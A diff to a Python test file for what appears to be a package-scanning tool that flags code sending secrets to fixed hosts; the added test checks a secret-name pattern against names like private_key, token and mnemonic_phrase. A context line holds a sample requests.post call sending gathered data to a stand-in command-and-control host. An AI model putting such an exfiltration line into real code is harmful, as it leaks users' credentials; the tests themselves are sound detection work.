@@ -78,3 +78,19 @@ def test_a_secret_gathered_into_a_variable_first_still_counts() -> None:
         "        requests.post(url='https://api.sdk-mirror.example-c2.xyz/x', json=data)\n"
     )
     assert "flow:secret_to_fixed" in tokens(code)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        *("private_key", "api_key", "KEY", "token", "mnemonic_phrase", "key_id", "session", "monkey"),
+        *("keyboard", "tokenizer", "passwd", "user_password", "db_pwd", "", "x", "seed_words", "Cookies"),
+        *("__secret__", "wallet_address"),
+    ],
+)
+def test_secret_name_is_the_pattern_every_time(name: str) -> None:
+    from vetpy.features.source.destinations import SECRET_NAME_RE, secret_name
+
+    expected = SECRET_NAME_RE.search(name) is not None
+    assert secret_name(name) is expected
+    assert secret_name(name) is expected  # the remembered answer
